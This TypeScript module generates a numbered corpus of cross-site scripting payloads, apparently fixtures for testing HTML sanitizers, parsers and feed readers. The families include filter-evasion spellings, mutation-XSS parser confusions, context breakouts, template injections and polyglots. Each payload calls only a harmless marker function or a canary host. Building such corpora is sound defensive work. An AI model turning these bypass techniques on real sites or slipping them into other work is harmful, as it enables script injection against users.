/**
 * Texts that try to become scripts, made by families: what a parser, a browser, a feed reader or a template could take for code. The classes
 * are those of the OWASP sheet on filter evasion and of the published work on mutation XSS; the wording is our own. Whatever runs calls
 * `__xss(number of the payload)`; whatever loads asks `canaryHost`.
 */
export type XssPayload = { number: number; family: string; text: string }

export const canaryHost = 'canary.example'

type Make = (code: string, address: string) => string

/** Every pairing of the two lists. */
const pair = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => Make): Make[] =>
  first.flatMap((a) => second.map((b) => make(a, b)))

const toDecimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('')
const toHex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('')
const toLongHex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16).padStart(7, '0')}`).join('')

const scriptElements: Make[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt>${code}</sCrIpT>`,
  (code) => `<script/x>${code}</script>`,
  (code) => `<script\n>${code}</script\n>`,
  (code) => `<script\f>${code}</script\t>`,
  (code) => `<script >${code}</script >`,
  (code) => `<script x=">">${code}</script>`,
  (code) => `<<script>${code}//<</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script>${code}`,
  (code) => `<script>//<!--\n${code}\n//--></script>`,
  (code) => `<!--<script>--><script>${code}</script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script type="text/javascript" language=x>${code}</script>`,
  (_, address) => `<script src=${address}></script>`,
  (_, address) => `<script src="${address}" async defer></script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script>${toHex(code)}</script></svg>`,
  (code) => `<svg><script href="data:,${code}"/></svg>`,
  (code) => `<svg><script xlink:href="data:,${code}"/></svg>`,
  (code) => `<math><script>${code}</script></math>`,
  (code) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<noscript><script>${code}</script></noscript>`,
  (code) => `<table><script>${code}</script></table>`,
  (code) => `<select><script>${code}</script></select>`,
]

/** Elements whose handler runs without anybody's doing; `~` stands for what separates their attributes. */
const selfRunning = [
  '<img~src=x~onerror=',
  '<svg~onload=',
  '<body~onload=',
  '<input~autofocus~onfocus=',
  '<video~src=x~onerror=',
  '<audio~src=x~onerror=',
  '<details~open~ontoggle=',
  '<iframe~onload=',
  '<object~data=x~onerror=',
  '<link~rel=stylesheet~href=x~onerror=',
  '<p~contenteditable~autofocus~onfocus=',
  '<image~src=x~onerror=',
]
const separators = [' ', '/', '\t', '\n', '\f', '\r', '  /  ', '\n\t/']
const handlers = pair(selfRunning, separators, (element, separator) => (code) => `${element.replaceAll('~', separator)}"${code}">`)

const handlerSpellings: Make[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `<img src=x onerror=\`${code}\`>`,
  (code) => `<img src="x"onerror="${code}">`,
  (code) => `<IMG SRC=x ONERROR=${code}>`,
  (code) => `<img src=x onerror="${toDecimal(code)}">`,
  (code) => `<img src=x onerror="${toHex(code)}">`,
  (code) => `<img src=x onerror=${toLongHex(code)}>`,
  (code) => `<img src=x onerror=javascript:${code}>`,
  (code) => `<img src=x onerror = ${code} >`,
  (code) => `<img src=x onerror\n=\n${code}>`,
  (code) => `<img src=x on\u0000error=${code}>`,
  (code) => `<img src=x a=">" onerror=${code}>`,
  (code) => `<img src=x alt='"' onerror=${code} title='"'>`,
  (code) => `<img src=x alt=\`<\` onerror=${code}>`,
  (code) => `<img src=x <b onerror=${code}>`,
  (code) => `<img """><img src=x onerror=${code}>">`,
  (code) => `<img/src/onerror=${code}>`,
  (code) => `<img src=x onerror=${code}`,
  (code) => `<img src=x onerror=${code} `,
  (code) => `<p onmouseover=${code} onpointerenter=${code} onwheel=${code} style="position:fixed;inset:0">x</p>`,
  (code) => `<a onclick=${code} href=#>x</a>`,
  (code) => `<b onauxclick=${code} onbeforecopy=${code}>x</b>`,
  (code) => `<ul><li onscroll=${code}>x</ul>`,
  (code) => `<div onbeforeinput=${code} contenteditable>x</div>`,
  (code) => `<p style="animation-name:x" onanimationstart=${code} onanimationend=${code}>x</p>`,
  (code) => `<p style="transition:color 1s" ontransitionrun=${code} ontransitionend=${code}>x</p>`,
  (code) => `<marquee onstart=${code} loop=1 width=0>x</marquee>`,
  (code) => `<select autofocus onfocus=${code}>`,
  (code) => `<textarea autofocus onfocus=${code}>`,
  (code) => `<button autofocus onfocus=${code}>x</button>`,
  (code) => `<a tabindex=0 autofocus onfocus=${code}>x</a>`,
  (code) => `<video><source src=x onerror=${code}></video>`,
  (code) => `<video poster=x onloadstart=${code} src=x></video>`,
  (code) => `<audio controls onloadstart=${code}><source src=x></audio>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<style onerror=${code}>@import 'x'</style>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><set onbegin=${code} attributeName=x to=1>`,
  (code) => `<svg><image href=x onerror=${code} />`,
  (code) => `<svg><style onload=${code}></style></svg>`,
  (code) => `<svg><a onfocus=${code} tabindex=1 autofocus>x</a></svg>`,
  (code) => `<input type=image src=x onerror=${code}>`,
  (code) => `<details open ontoggle=${code}><summary>x</summary></details>`,
  (code) => `<div popover id=p onbeforetoggle=${code}></div><button popovertarget=p autofocus>x</button>`,
  (code) => `<dialog open oncancel=${code} onclose=${code}>x</dialog>`,
  (code) => `<embed src=/whs/icon.svg onload=${code}>`,
  (code) => `<object type="text/html" data="/whs/" onload=${code}></object>`,
  (code) => `<frameset onload=${code}><frame></frameset>`,
  (code) => `<body onpageshow=${code} onhashchange=${code} onresize=${code} onmessage=${code}>`,
  (code) => `<custom-element oncontentvisibilityautostatechange=${code} style="display:block;content-visibility:auto">`,
]

/** Ways to write `javascript:`, and what else runs where an address stands. */
const scriptAddresses: Make[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `\tjavascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `java\rscript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `\u001fjavascript:${code}`,
  (code) => `java&Tab;script:${code}`,
  (code) => `java&NewLine;script&colon;${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `&#0000106avascript:${code}`,
  (code) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${code}`,
  (code) => `javascript&#58;${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript:/*--></a>*/${code}`,
  (code) => `javascript:"<b>"+${code}`,
  (code) => `vbscript:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;charset=utf-8,%3Cscript%3E${code}%3C/script%3E`,
  (code) => `DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
]
/** Where an address may stand; `~` is its place. */
const addressPlaces = [
  '<a href="~">x</a>',
  "<a href='~' target=_blank>x</a>",
  '<iframe src="~"></iframe>',
  '<form action="~"><button autofocus>x</button></form>',
]
const addresses = pair(addressPlaces, scriptAddresses, (place, make) => (code, host) => place.replace('~', () => make(code, host)))

const otherAddresses: Make[] = [
  (code) => `<area href="javascript:${code}">`,
  (code) => `<map name=m><area href="javascript:${code}" shape=default></map><img usemap=#m src=/whs/icon.svg>`,
  (code) => `<button form=f formaction="javascript:${code}">x</button><form id=f></form>`,
  (code) => `<input type=submit formaction="javascript:${code}">`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<applet code="javascript:${code}"></applet>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  (code) => `<svg><a><animate attributeName=href values="javascript:${code}" /><text y=20>x</text></a></svg>`,
  (code) => `<svg><a><set attributeName=href to="javascript:${code}" /><text y=20>x</text></a></svg>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x" /></svg>`,
  (code) => `<math href="javascript:${code}"><mtext>x</mtext></math>`,
  (code) => `<math><maction actiontype=statusline xlink:href="javascript:${code}">x</maction></math>`,
  (code) => `<base href="javascript:${code}//">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${code}</script>">`,
  (code) => `<link rel=import href="data:text/html,<script>${code}</script>">`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc="&lt;img src=x onerror=parent.${code}&gt;"></iframe>`,
  (code) => `<iframe src="about:blank" onload="${code}"></iframe>`,
  (code) => `<img src="javascript:${code}">`,
  (code) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>">`,
  (code) => `<img dynsrc="javascript:${code}" lowsrc="javascript:${code}">`,
  (code) => `<body background="javascript:${code}">`,
  (code) => `<table background="javascript:${code}"><tr><td background="javascript:${code}">x</table>`,
  (code) => `<a href="https://a.example&quot; onclick=&quot;${code}">x</a>`,
  (code) => `<a href=https://a.example/"onclick="${code}">x</a>`,
  (code) => `<a ping="javascript:${code}" href=#>x</a>`,
  (code) => `<a href="https://user:pass@a.example/" onclick="${code}">x</a>`,
]

const styles: Make[] = [
  (code) => `<p style="width:expression(${code})">x</p>`,
  (code) => `<p style="w\\69dth:expr/**/ession(${code})">x</p>`,
  (code) => `<p style="background:url(javascript:${code})">x</p>`,
  (code) => `<p style="background:url('java\nscript:${code}')">x</p>`,
  (_, address) => `<p style="background:url(${address})">x</p>`,
  (_, address) => `<p style="color:red;background-image:\\75rl(${address})">x</p>`,
  (_, address) => `<p style="list-style:url(${address})">x</p>`,
  (_, address) => `<p style="color:red}*{background:url(${address})">x</p>`,
  (_, address) => `<p style="content:url(${address});cursor:url(${address}),auto">x</p>`,
  (_, address) => `<p style="--x:url(${address});background:var(--x)">x</p>`,
  (_, address) => `<p style="background:image-set('${address}' 1x)">x</p>`,
  (code) => `<p style="behavior:url(#x);-moz-binding:url(data:text/xml,${code})">x</p>`,
  (code) => `<p style='color:red" onclick="${code}'>x</p>`,
  (_, address) => `<style>@import '${address}';</style>`,
  (_, address) => `<style>*{background:url(${address})}</style>`,
  (_, address) => `<style><!--</style><style>@import url(${address})</style>`,
  (_, address) => `<link rel=stylesheet href=${address}>`,
  (_, address) => `<link rel="prefetch preload dns-prefetch" as=image href=${address}>`,
  (_, address) => `<svg><style>*{fill:url(${address})}</style><rect width=9 height=9 /></svg>`,
  (_, address) => `<p style="position:fixed;inset:0;z-index:99999;background:#fff">${address}</p>`,
]

/** Text that one parser reads as text and another as elements. */
const rawText = ['style', 'title', 'noscript', 'xmp', 'textarea', 'noembed', 'noframes', 'iframe']
const foreign = [
  ['<svg>', '</svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<svg><desc>', '</desc></svg>'],
] as const
const confusedText = pair(foreign, rawText, ([open, close], element) => (code) => {
  return `${open}<${element}><a title="</${element}><img src=x onerror=${code}>">${close}`
})

const mutations: Make[] = [
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<style><a title="</style><img src=x onerror=${code}>">`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${code}>"></style></annotation-xml></math>`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<svg><foreignObject><style><img title="</style><img src=x onerror=${code}>"></style></foreignObject></svg>`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) => `<table><caption><svg><title><table><caption></svg><style><img title="</style><img src=x onerror=${code}>">`,
  (code) => `<select><template><style></select></template><img src=x onerror=${code}>`,
  (code) => `<select><option><style></option></select><img src=x onerror=${code}></style>`,
  (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
  (code) => `<xmp>&lt;img src=x onerror=${code}&gt;</xmp>`,
  (code) => `<plaintext>&lt;img src=x onerror=${code}&gt;`,
  (code) => `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${code}&gt;</textarea>`,
  (code) => `<textarea></textarea/><img src=x onerror=${code}>`,
  (code) => `<title></title/><img src=x onerror=${code}>`,
  (code) => `<option>&lt;img src=x onerror=${code}&gt;</option>`,
  (code) => `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
  (code) => `<template><noscript><a title="</template><img src=x onerror=${code}>"></noscript></template>`,
  (code) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  (code) => `<div><template shadowroot=open><script>${code}</script></template></div>`,
  (code) => `<a><table><a><img title="</table></a><img src=x onerror=${code}>"></a></table></a>`,
  (code) => `<pre>\n\n<b title="</pre><img src=x onerror=${code}>">x</b></pre>`,
  (code) => `<p title="\`><img src=x onerror=${code}>">x</p>`,
  (code) => `<img alt="\`\`onerror=${code} src=x">`,
  (code) => `<br title="--!><img src=x onerror=${code}>">`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!---><img src=x onerror=${code}>-->`,
  (code) => `<!-- --!><img src=x onerror=${code}>-->`,
  (code) => `<!-- <!-- --><img src=x onerror=${code}> -->`,
  (code) => `<!--[if IE]><img src=x onerror=${code}><![endif]-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<svg><![CDATA[><img title="]]><img src=x onerror=${code}>">]]></svg>`,
  (code) => `<?php><img src=x onerror=${code}>?>`,
  (code) => `<?xml version="1.0"?><img src=x onerror=${code}>`,
  (code) => `<!doctype html [<!entity x "<img src=x onerror=${code}>">]>&x;`,
  (code) => `</ ><img src=x onerror=${code}>`,
  (code) => `</x a="><img src=x onerror=${code}>">`,
  (code) => `<% <img src=x onerror=${code}> %>`,
  (code) => `<p ${'x '.repeat(200)}onclick=${code}>x</p>`,
  (code) => `${'<div>'.repeat(200)}<img src=x onerror=${code}>`,
  (code) => `${'<b><i>'.repeat(300)}<svg onload=${code}>`,
  (code) => `${'<table><tr><td>'.repeat(70)}<img src=x onerror=${code}>`,
  (code) => `${'<iframe>'.repeat(20)}<img src=x onerror=${code}>${'</iframe>'.repeat(20)}`,
]

/** What closes the place where a text may stand. */
const closers = [
  '">', "'>", '`>', '" >', "' >", '"/>', '">">', '-->', '--!>', '*/', ']]>', '?>', '%>', '}}', '\\">', "\\'>", '%22%3E', '&quot;&gt;',
  '</title>', '</textarea>', '</style>', '</script>', '</SCRIPT >', '</noscript>', '</iframe>', '</xmp>', '</template>', '</select>',
  '</option>', '</button>', '</svg>', '</math>', '</a>', '</p></div></main>', '</head><body>', '</body></html>', '"]}', '"}]}</script>',
] // prettier-ignore
const breakouts = closers.map((closer): Make => (code) => `${closer}<img src=x onerror=${code}>`)

const attributeBreaks: Make[] = [
  (code) => `" onmouseover=${code} x="`,
  (code) => `' onmouseover=${code} x='`,
  (code) => `" autofocus onfocus=${code} x="`,
  (code) => `' autofocus onfocus=${code} tabindex=1 x='`,
  (code) => `x" style="animation-name:spin" onanimationstart="${code}`,
  (code) => `x onload=${code}`,
  (code) => `javascript:${code}//" onclick="${code}`,
  (code) => `\u00a0onerror=${code}`,
  (code) => `"\nonload="${code}`,
  (code) => `x&#34; onfocus=&#34;${code}&#34; autofocus`,
]

const scriptBreaks: Make[] = [
  (code) => `</script><script>${code}</script>`,
  (code) => `</ScRiPt ><script>${code}</script>`,
  (code) => `<!--<script>${code}</script>`,
  (code) => `';${code}//`,
  (code) => `";${code}//`,
  (code) => `\`;${code}//`,
  (code) => `\\';${code}//`,
  (code) => `\\";${code}//`,
  (code) => `'-${code}-'`,
  (code) => `"-${code}-"`,
  (code) => `'+${code}+'`,
  (code) => `");${code};("`,
  (code) => `\u2028${code}//`,
  (code) => `\u2029${code}//`,
  (code) => `\r\n${code}\r\n//`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code) => `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
  (code) => `\${${code}}`,
  (code) => `"}});${code};({"a":{"b":"`,
  (code) => `{"__proto__":{"onload":"${code}"}}`,
  (code) => `]},"x":${code},"y":[{`,
  (code) => `<\\/script><script>${code}<\\/script>`,
]

const templates: Make[] = [
  (code) => `{{${code}}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{$on.constructor('${code}')()}}`,
  (code) => `{{_c.constructor('${code}')()}}`,
  (code) => `[[${code}]]`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `{% ${code} %}`,
  (code) => `@{${code}}`,
  (code) => `<div v-html="'<img src=x onerror=${code}>'" v-on:load.once="${code}" @click="${code}">x</div>`,
  (code) => `<div ng-app ng-csp><b ng-focus=${code} autofocus>x</b></div>`,
  (code) => `<div x-data x-init="${code}">x</div>`,
  (code) => `<div hx-get=/whs/ hx-trigger=load hx-on::load="${code}">x</div>`,
  (code) => `<div data-bind="html: ${code}" data-toggle=tooltip data-html=true title="<img src=x onerror=${code}>">x</div>`,
  (code) => `![x](x"onerror="${code})`,
  (code) => `[x](javascript:${code})`,
]

const feeds: Make[] = [
  (code) => `]]><script>${code}</script>`,
  (code) => `]]>]]><script>${code}</script>`,
  (code) => `]]>]]>]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `]]></title></item><item><title><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `</title><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `</channel></rss><html xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script></html>`,
  (code) => `]]&gt;<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="${code}"/>`,
  (code) => `<![CDATA[<![CDATA[]]><script>${code}</script>]]>`,
  (code) => `<?xml-stylesheet type="text/xsl" href="data:text/xml,${code}"?>`,
  (_, address) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]>&e;`,
  (code) => `&#60;script&#62;${code}&#60;/script&#62;`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
  (code) => `\u000b]]>\u0008<script>${code}</script>`,
  (code) => `\ufffe]]><script>${code}</script>\uffff`,
]

const encodings: Make[] = [
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `\uff1cscript\uff1e${code}\uff1c/script\uff1e`,
  (code) => `\u02bcscript\u203a${code}`,
  (code) => `<\u0000script>${code}</script>`,
  (code) => `<scr\u0000ipt>${code}</scr\u0000ipt>`,
  (code) => `<\u017fcript>${code}</\u017fcript>`,
  (code) => `<\u0131mg src=x onerror=${code}>`,
  (code) => `\u202e<script>${code}</script>`,
  (code) => `<img src=x o\u200bnerror=${code} onerror=${code}>`,
  (code) => `<svg/onload\u00a0=${code} onload=${code}>`,
  (code) => `\ud83d\ude00<img src=x onerror=${code}>\ud83d\ude00`,
  (code) => `\u00bcscript\u00be${code}\u00bc/script\u00be`,
]

/** Nothing runs, but something asks another server, or takes the name of something of the page. */
const loads: Make[] = [
  (_, address) => `<img src=${address}>`,
  (_, address) => `<img src='${address}?`,
  (_, address) => `<img srcset="${address} 1x" sizes=9px>`,
  (_, address) => `<picture><source srcset="${address}"><img src=x></picture>`,
  (_, address) => `<img src=/whs/icon.svg srcset=${address}>`,
  (_, address) => `<img src="/whs/files/../../${address}">`,
  (_, address) => `<img src="\\\\${canaryHost}\\x" alt="${address}">`,
  (_, address) => `<video poster=${address}></video>`,
  (_, address) => `<video src=${address} autoplay></video>`,
  (_, address) => `<audio src=${address} autoplay></audio>`,
  (_, address) => `<video src=x><track default src=${address}></video>`,
  (_, address) => `<input type=image src=${address}>`,
  (_, address) => `<body background=${address}>`,
  (_, address) => `<table background=${address}><tr><td>x</table>`,
  (_, address) => `<object data=${address}></object>`,
  (_, address) => `<embed src=${address}>`,
  (_, address) => `<iframe src=${address}></iframe>`,
  (_, address) => `<frameset><frame src=${address}></frameset>`,
  (_, address) => `<svg><image href=${address} width=9 height=9 /></svg>`,
  (_, address) => `<svg><use xlink:href=${address}#x /></svg>`,
  (_, address) => `<svg><filter id=f><feImage href=${address} /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  (_, address) => `<base href=${address}/>`,
  (_, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_, address) => `<form action=${address} id=f><input name=x></form><button form=f autofocus>x</button>`,
  (_, address) => `<portal src=${address}></portal>`,
  (_, address) => `<fencedframe src=${address}></fencedframe>`,
  (_, address) => `<a href=/whs/ ping=${address}>x</a>`,
  (_, address) => `<link rel=icon href=${address}><link rel=manifest href=${address}>`,
  (_, address) => `<html manifest=${address}>`,
  (_, address) => `<img name=body id=__reactRouterContext src=${address}>`,
  (_, address) => `<form id=location name=cookie><input name=parentNode><input name=attributes></form>${address}`,
  (_, address) => `<a id=__xssRuns href="${address}"></a><a id=__xssRuns name=push href="${address}"></a>`,
]

const polyglots: Make[] = [
  (code) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${code}//'>`,
  (code) => `'">*/--></script></style></title></textarea></noscript></template><img src=x onerror=${code}>{{${code}}}\${${code}}]]>`,
  (code) => `\`"'><svg/onload=${code}></svg><!--\u2028${code}\u2029-->`,
  (code) => `</script><svg/onload='/*'/*"/*\`/*-->*/${code}//'>`,
  (code) => `<a href="javascript:${code}" onclick=${code}><img src=x onerror=${code}><svg onload=${code}></svg></a>]]>`,
  (code) => `<p title='</p><script>${code}</script>'>"-${code}-"</p>';${code}//`,
]

const families: Record<string, Make[]> = {
  'script element': scriptElements,
  handler: handlers,
  'spelling of a handler': handlerSpellings,
  address: addresses,
  'other address': otherAddresses,
  style: styles,
  'confused text': confusedText,
  mutation: mutations,
  'way out': breakouts,
  'way out of an attribute': attributeBreaks,
  'way out of a script': scriptBreaks,
  template: templates,
  feed: feeds,
  encoding: encodings,
  load: loads,
  polyglot: polyglots,
}

export const xssCorpus: readonly XssPayload[] = Object.entries(families)
  .flatMap(([family, makes]) => makes.map((make) => ({ family, make })))
  .map(({ family, make }, number) => ({ number, family, text: make(`__xss(${number})`, `//${canaryHost}/${number}`) }))
